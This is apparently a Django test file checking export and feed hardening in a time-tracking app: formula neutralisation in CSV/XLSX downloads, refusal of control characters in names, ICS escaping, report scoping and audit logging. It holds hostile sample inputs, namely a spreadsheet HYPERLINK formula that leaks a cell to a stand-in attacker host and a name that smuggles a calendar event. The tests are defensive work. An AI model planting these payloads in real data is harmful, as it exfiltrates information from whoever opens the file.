"""Issue 12, stream "exports": formula injection in exports (item 2), control characters in
names and ICS feeds (item 4), the overtime and leave reports' user/team filters and the
audit of managers' entry edits (item 7), and the admin users list's team filter (item 9)."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
import time_machine
from django.test import Client
from django.utils.timezone import localtime
from icalendar import Calendar
from openpyxl import load_workbook

from core.errors import DomainValidationError
from core.models import AuditEvent
from core.validators import NAME_CONTROL_CHARACTERS
from leave import services as leave_services
from leave.models import LeaveType
from timeentries.models import Project, TimeEntry
from users import services as user_services
from users.models import Team, User

TIME = "/api/v1/reports/time"
OVERTIME = "/api/v1/reports/overtime"
EXPORTS = "/api/v1/exports"
EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Dave")'
pytestmark = pytest.mark.usefixtures("media_in_tmp")


@pytest.fixture
def acme_at_90(make_project):
    """A client-less "Acme website" (ACME) at 90 an hour."""
    return make_project(code="ACME", name="Acme website", hourly_rate=Decimal("90"))


def worked(user, project, day: int, hours: int = 2) -> TimeEntry:
    start = datetime(2026, 11, day, 8, tzinfo=UTC)
    return TimeEntry.objects.create(
        user=user, project=project, start=start, end=start.replace(hour=8 + hours), billable=True
    )


def csv_rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


def xlsx_rows(response):
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(load_workbook(io.BytesIO(body)).active.iter_rows())


# --- item 2: formula injection in exports ------------------------------------------------------


def test_item02_a_formula_name_is_plain_text_in_csv_and_xlsx_downloads(
    api, alice, carol, acme_at_90, frozen_2026_11_26
):
    response = api(alice).patch("/api/v1/users/me", {"first_name": EVIL, "last_name": ""}, format="json")
    assert response.status_code == 200, response.json()
    assert response.json()["first_name"] == EVIL  # the API keeps the name as it was given
    worked(alice, acme_at_90, 4)
    query = {"from": "2026-11-01", "to": "2026-11-30", "group_by": "user"}

    as_json = api(carol).get(TIME, query).json()
    assert as_json["rows"][0]["user_name"] == EVIL

    lines = csv_rows(api(carol).get(TIME, {**query, "format": "csv"}))
    assert lines[1] == ["'" + EVIL, "2.00", "2.00", "180.00", "1"]

    row = xlsx_rows(api(carol).get(TIME, {**query, "format": "xlsx"}))[1]
    assert (row[0].data_type, row[0].value) == ("s", "'" + EVIL)
    assert (row[1].data_type, row[1].value) == ("n", 2)


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_item02_every_formula_trigger_is_neutralised(api, alice, carol, frozen_2026_11_26, trigger):
    # A project name: person names lose leading white space in reports (str(user) strips).
    project = Project.objects.create(name=f"{trigger}1+2", code="EVIL")
    worked(alice, project, 4)
    query = {"from": "2026-11-01", "to": "2026-11-30", "group_by": "project"}

    assert csv_rows(api(carol).get(TIME, {**query, "format": "csv"}))[1][0] == f"'{trigger}1+2"
    cell = xlsx_rows(api(carol).get(TIME, {**query, "format": "xlsx"}))[1][0]
    # XML reads a carriage return back as a line feed.
    assert (cell.data_type, cell.value) == ("s", f"'{trigger}1+2".replace("\r", "\n"))


def test_item02_negative_numbers_stay_numbers(api, alice, carol, acme_at_90, frozen_2026_11_26):
    alice.first_name, alice.last_name = "-Alice", ""
    alice.employment_start = date(2026, 11, 2)  # the balance runs from here
    alice.save(update_fields=["first_name", "last_name", "employment_start"])
    worked(alice, acme_at_90, 2)  # far below the week's 40 expected hours: negative differences
    query = {"from": "2026-11-02", "to": "2026-11-08", "user": alice.pk}

    lines = csv_rows(api(carol).get(OVERTIME, {**query, "format": "csv"}))
    assert lines[1][0] == "'-Alice"
    assert lines[1][6:] == ["-38.00", "-38.00", "0.00"]  # difference, balance, opening balance

    row = xlsx_rows(api(carol).get(OVERTIME, {**query, "format": "xlsx"}))[1]
    assert (row[0].data_type, row[0].value) == ("s", "'-Alice")
    assert [(cell.data_type, cell.value) for cell in row[6:]] == [("n", -38), ("n", -38), ("n", 0)]


def test_item02_text_that_looks_like_an_error_code_stays_a_string(api, alice, carol, acme_at_90, frozen_2026_11_26):
    alice.first_name, alice.last_name = "#N/A", ""
    alice.save(update_fields=["first_name", "last_name"])
    worked(alice, acme_at_90, 4)

    response = api(carol).get(TIME, {"from": "2026-11-01", "to": "2026-11-30", "group_by": "user", "format": "xlsx"})

    row = xlsx_rows(response)[1]
    assert (row[0].data_type, row[0].value) == ("s", "#N/A")


def test_item02_control_characters_in_stored_text_do_not_break_an_xlsx_download(api, alice, carol, frozen_2026_11_26):
    # XML 1.0 cannot hold most control characters; openpyxl refused the whole file (a 500).
    project = Project.objects.create(name="=Bell\x07 and escape\x1b", code="CTRL")
    worked(alice, project, 4)
    query = {"from": "2026-11-01", "to": "2026-11-30", "group_by": "project", "format": "xlsx"}

    response = api(carol).get(TIME, query)

    assert response.status_code == 200
    cell = xlsx_rows(response)[1][0]
    assert (cell.data_type, cell.value) == ("s", "'=Bell and escape")


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_item02_background_exports_neutralise_formulas_too(
    api, alice, carol, acme_at_90, frozen_2026_11_26, file_format, django_capture_on_commit_callbacks
):
    alice.first_name, alice.last_name = EVIL, ""
    alice.save(update_fields=["first_name", "last_name"])
    worked(alice, acme_at_90, 4)
    client = api(carol)
    body = {
        "report": "time",
        "format": file_format,
        "params": {"from": "2026-11-01", "to": "2026-11-30", "group_by": "user"},
    }
    with django_capture_on_commit_callbacks(execute=True):
        created = client.post(EXPORTS, body, format="json")
    assert created.status_code == 202, created.json()
    status = client.get(f"{EXPORTS}/{created.json()['id']}").json()
    assert status["status"] == "done", status

    download = client.get(status["download_url"])

    if file_format == "csv":
        assert csv_rows(download)[1][0] == "'" + EVIL
    else:
        cell = xlsx_rows(download)[1][0]
        assert (cell.data_type, cell.value) == ("s", "'" + EVIL)


# --- item 4: control characters in names; ICS feeds --------------------------------------------

BAD_NAMES = ["Al\nice", "Al\rice", "Al\tice", "Al\x1bice", "Al\x85ice", "Al\u2028ice"]


def admin_user_form(user, **changes) -> dict:
    form = {
        "email": user.email,
        "first_name": user.first_name,
        "last_name": user.last_name,
        "timezone": user.timezone,
        "weekly_contract_hours": "40",
        "work_days": "12345",
        "role": user.role,
        "team": user.team_id or "",
        "is_active": "on",
    }
    return {**form, **changes}


@pytest.mark.parametrize("bad", BAD_NAMES)
def test_item04_names_with_control_characters_are_refused_by_the_api(api, anon, alice, carol, bad):
    me = api(alice).patch("/api/v1/users/me", {"first_name": bad}, format="json")
    assert me.status_code == 400 and "first_name" in me.json()["errors"], me.json()

    signup = anon.post(
        "/api/v1/auth/register",
        {"email": "new@example.com", "password": "a-long-enough-passphrase", "last_name": bad},
        format="json",
    )
    assert signup.status_code == 400 and "last_name" in signup.json()["errors"], signup.json()

    created = api(carol).post(
        "/api/v1/users", {"email": "new@example.com", "password": "a-long-enough-passphrase", "first_name": bad}
    )
    assert created.status_code == 400 and "first_name" in created.json()["errors"], created.json()
    edited = api(carol).patch(f"/api/v1/users/{alice.pk}", {"last_name": bad}, format="json")
    assert edited.status_code == 400 and "last_name" in edited.json()["errors"], edited.json()
    team = api(carol).post("/api/v1/teams", {"name": f"Team {bad}"}, format="json")
    assert team.status_code == 400 and "name" in team.json()["errors"], team.json()

    alice.refresh_from_db()
    assert (alice.first_name, alice.last_name) == ("Alice", alice.last_name)
    assert bad not in alice.last_name
    assert not type(alice).objects.filter(email="new@example.com").exists()


def test_item04_names_keep_spaces_accents_and_formula_characters(api, alice):
    response = api(alice).patch(
        "/api/v1/users/me", {"first_name": "=Zoë-Marie @home", "last_name": "O'Brien +1"}, format="json"
    )
    assert response.status_code == 200, response.json()


def test_item04_the_admin_forms_refuse_control_characters_on_the_field(carol, alice, password):
    client = Client()
    client.force_login(carol)

    change = client.post(f"/admin/users/user/{alice.pk}/change/", admin_user_form(alice, first_name="Al\nice"))
    assert change.status_code == 200  # the form again, with the error on the field
    assert change.context["adminform"].form.errors["first_name"] == [NAME_CONTROL_CHARACTERS]
    alice.refresh_from_db()
    assert alice.first_name == "Alice"

    add = client.post(
        "/admin/users/user/add/",
        {**admin_user_form(alice, email="new@example.com", last_name="Smi\tth"), "password": "a-long-passphrase"},
    )
    assert add.status_code == 200
    assert add.context["adminform"].form.errors["last_name"] == [NAME_CONTROL_CHARACTERS]

    team = client.post("/admin/users/team/add/", {"name": "Night\nshift"})
    assert team.status_code == 200
    assert team.context["adminform"].form.errors["name"] == [NAME_CONTROL_CHARACTERS]
    assert not User.objects.filter(email="new@example.com").exists()
    assert not Team.objects.filter(name__startswith="Night").exists()


def test_item04_the_services_refuse_control_characters_for_imports_too(carol, alice):
    # An import or a command calls the services directly, past every serializer and form.
    with pytest.raises(DomainValidationError) as refused:
        user_services.user_create(actor=carol, password="a-long-passphrase", email="x@example.com", last_name="a\nb")
    assert refused.value.field == "last_name"
    with pytest.raises(DomainValidationError) as refused:
        user_services.user_profile_update(user=alice, first_name="a\rb")
    assert refused.value.field == "first_name"
    with pytest.raises(DomainValidationError) as refused:
        user_services.team_create(actor=carol, name="a\x00b")
    assert refused.value.field == "name"


def test_item04_a_line_break_already_stored_in_a_name_does_not_break_the_feeds(api, anon, alice, bob):
    # Names stored before the check existed: written straight to the database.
    User.objects.filter(pk=alice.pk).update(first_name="Alice\r\nBEGIN:VEVENT", last_name="Adler\x1b")
    User.objects.filter(pk=bob.pk).update(first_name="Bob\nManager", last_name="")
    with time_machine.travel(datetime(2026, 3, 2, 10, tzinfo=UTC), tick=False):
        sick = LeaveType.objects.get(code="sick")  # approved as soon as it is asked for
        request = leave_services.leave_request_create(
            actor=User.objects.get(pk=alice.pk), leave_type=sick, start_date=date(2026, 3, 3), end_date=date(2026, 3, 3)
        )
        assert request.status == "approved"
        personal = _feed_url(api(alice), "personal")
        team = _feed_url(api(bob), "team")

        for url, calendar_name in (
            (personal, b"Absences of Alice\\nBEGIN:VEVENT Adler"),
            (team, b"Team absences (Bob\\nManager)"),
        ):
            response = anon.get(url.removeprefix("http://testserver"))
            assert response.status_code == 200, response.content[:500]
            calendar = Calendar.from_ical(response.content)
            assert calendar["X-WR-CALNAME"].to_ical() == calendar_name  # one line, the break escaped
            events = calendar.walk("VEVENT")
            assert len(events) == 1  # the name did not open a second event
            assert str(events[0]["SUMMARY"]) == f"Alice\nBEGIN:VEVENT Adler \u2013 {sick.name}"


def _feed_url(client, scope: str) -> str:
    response = client.get("/api/v1/leave/calendar-feeds")
    assert response.status_code == 200, response.json()
    return next(feed["url"] for feed in response.json()["results"] if feed["scope"] == scope)


# --- item 7: the overtime and leave reports' user and team; managers' edits audited ------------

LEAVE = "/api/v1/reports/leave"


def people_in(response) -> set[int]:
    assert response.status_code == 200, response.json()
    return {row["user"] for row in response.json()["rows"]}


@pytest.mark.parametrize("report", ["overtime", "leave"])
def test_item07_overtime_and_leave_reports_take_user_and_team(
    api, alice, bob, carol, dave, erin, team_a, team_b, report
):
    url, query = (
        (OVERTIME, {"from": "2026-11-16", "to": "2026-11-22"})
        if report == "overtime"
        else (LEAVE, {"as_of": "2026-11-26"})
    )
    admin, manager, employee = api(carol), api(bob), api(alice)

    assert people_in(admin.get(url, {**query, "team": team_b.pk})) == {dave.pk, erin.pk}
    assert people_in(admin.get(url, {**query, "user": alice.pk})) == {alice.pk}
    assert people_in(admin.get(url, {**query, "team": team_a.pk, "user": dave.pk})) == set()
    lines = csv_rows(admin.get(url, {**query, "team": team_b.pk, "format": "csv"}))
    assert {line[0] for line in lines[1:]} == {str(dave), str(erin)}

    # Scoped: a manager narrows within their team; another team or its people look missing.
    assert people_in(manager.get(url, {**query, "team": team_a.pk})) == {alice.pk, bob.pk}
    assert people_in(manager.get(url, {**query, "user": alice.pk})) == {alice.pk}
    for hidden in ({"team": team_b.pk}, {"user": dave.pk}, {"team": 999_999}, {"user": 999_999}):
        response = manager.get(url, {**query, **hidden})
        assert response.status_code == 404, (hidden, response.json())

    assert people_in(employee.get(url, {**query, "team": team_a.pk})) == {alice.pk}
    assert employee.get(url, {**query, "user": bob.pk}).status_code == 404
    assert employee.get(url, {**query, "team": team_b.pk}).status_code == 404
    bad = employee.get(url, {**query, "team": "x"})
    assert bad.status_code == 400 and "team" in bad.json()["errors"]


def test_item07_a_background_export_of_the_leave_report_honours_team(
    api, carol, dave, erin, team_b, alice, django_capture_on_commit_callbacks
):
    client = api(carol)
    body = {"report": "leave", "format": "csv", "params": {"as_of": "2026-11-26", "team": team_b.pk}}
    with django_capture_on_commit_callbacks(execute=True):
        created = client.post(EXPORTS, body, format="json")
    assert created.status_code == 202, created.json()
    status = client.get(f"{EXPORTS}/{created.json()['id']}").json()
    assert status["status"] == "done", status

    lines = csv_rows(client.get(status["download_url"]))

    assert {line[0] for line in lines[1:]} == {str(dave), str(erin)}


@pytest.fixture
def alices_entry(frozen_2026_11_26, alice, acme_at_90):
    return worked(alice, acme_at_90, 24)  # Tuesday of this (open) week


def test_item07_a_manager_editing_or_deleting_a_reports_entry_is_audited_naming_both(api, alice, bob, alices_entry):
    client = api(bob)

    changed = client.patch(f"/api/v1/time-entries/{alices_entry.pk}", {"description": "Fixed"}, format="json")
    assert changed.status_code == 200, changed.json()
    event = AuditEvent.objects.get(action="time_entry_changed")
    assert (event.actor, event.subject, event.target_id) == (bob, alice, str(alices_entry.pk))
    assert event.data == {"changes": {"description": ["", "Fixed"]}}

    deleted = client.delete(f"/api/v1/time-entries/{alices_entry.pk}")
    assert deleted.status_code == 204
    event = AuditEvent.objects.get(action="time_entry_deleted")
    assert (event.actor, event.subject, event.target_id) == (bob, alice, str(alices_entry.pk))
    assert event.data["entry"]["project"] == "ACME"
    assert event.data["entry"]["description"] == "Fixed"


def test_item07_people_editing_their_own_entries_write_no_such_event(api, alice, alices_entry):
    client = api(alice)

    assert (
        client.patch(f"/api/v1/time-entries/{alices_entry.pk}", {"description": "Mine"}, format="json").status_code
        == 200
    )
    assert client.delete(f"/api/v1/time-entries/{alices_entry.pk}").status_code == 204

    assert not AuditEvent.objects.filter(action__in=["time_entry_changed", "time_entry_deleted"]).exists()


def test_item07_an_admin_edit_in_the_admin_writes_the_same_event(carol, alice, alices_entry):
    client = Client()
    client.force_login(carol)
    start, end = localtime(alices_entry.start, carol.tzinfo), localtime(alices_entry.end, carol.tzinfo)
    form = {
        "project": alices_entry.project_id,
        "task": "",
        "start_0": f"{start:%Y-%m-%d}",
        "start_1": f"{start:%H:%M:%S}",
        "end_0": f"{end:%Y-%m-%d}",
        "end_1": f"{end:%H:%M:%S}",
        "description": "Checked",
        "billable": "on",
    }

    response = client.post(f"/admin/timeentries/timeentry/{alices_entry.pk}/change/", form)

    assert response.status_code == 302, response.content.decode()[:3000]
    event = AuditEvent.objects.get(action="time_entry_changed")
    assert (event.actor, event.subject) == (carol, alice)
    assert event.data == {"changes": {"description": ["", "Checked"]}}


# --- item 9 (part): the admin users list's team filter ------------------------------------------


def team_filter_links(user) -> set[str]:
    client = Client()
    client.force_login(user)
    page = client.get("/admin/users/user/")
    assert page.status_code == 200
    return {str(team) for team in Team.objects.all() if f"team__id__exact={team.pk}" in page.content.decode()}


def test_item09_a_managers_team_filter_lists_only_the_teams_they_manage(alice, bob, carol, dave, team_a, team_b):
    night = Team.objects.create(name="Night shift")
    night.managers.add(bob)

    assert team_filter_links(bob) == {"Team A", "Night shift"}
    assert team_filter_links(carol) == {"Team A", "Team B", "Night shift"}
